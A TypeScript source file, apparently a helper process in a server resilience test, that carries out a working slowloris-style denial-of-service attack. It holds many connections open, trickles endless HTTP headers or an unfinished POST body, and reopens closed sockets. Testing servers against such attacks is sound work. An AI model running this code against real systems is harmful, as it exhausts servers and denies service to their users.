// The process of an attacker: it keeps the given number of connections open, and reopens closed ones. Once a second it
// writes the numbers of open connections and of all opened ones. It ends when its standard input ends.
import { once } from 'node:events'
import { connect, type Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import type { Attack } from './connection-attacker.ts'

const [text = ''] = process.argv.slice(2)
const { host, port, each, openPerSecond, bodyPath }: Attack = JSON.parse(text)
const TICK_MS = 20

/** The bytes that each kind sends first, and then once a second. */
const kinds = {
  idle: { first: '', next: '' },
  headers: { first: 'GET / HTTP/1.1\r\nHost: x\r\n', next: 'X-A: b\r\n' },
  body: {
    first: `POST ${bodyPath} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n{`,
    next: ' '
  }
}

const open = new Map<Socket, string>()
let opened = 0
/** The connections to open: alternately one of each kind. */
const waiting = Array.from({ length: each }, () => Object.values(kinds)).flat()

function attack(kind: { first: string; next: string }): void {
  const socket = connect({ host, port })
  opened++
  open.set(socket, kind.next)
  socket.on('error', () => undefined)
  socket.on('data', () => undefined)
  socket.once('connect', () => {
    if (kind.first !== '') socket.write(kind.first)
  })
  socket.once('close', () => {
    open.delete(socket)
    waiting.push(kind)
  })
}

setInterval(() => {
  for (const kind of waiting.splice(0, (openPerSecond * TICK_MS) / 1_000)) attack(kind)
}, TICK_MS)

async function trickle(): Promise<never> {
  for (;;) {
    process.stdout.write(`${JSON.stringify({ open: open.size, opened })}\n`)
    await sleep(1_000)
    for (const [socket, next] of open) if (next !== '' && socket.writable) socket.write(next)
  }
}
void trickle()
await once(process.stdin.resume(), 'end')
process.exit(0)
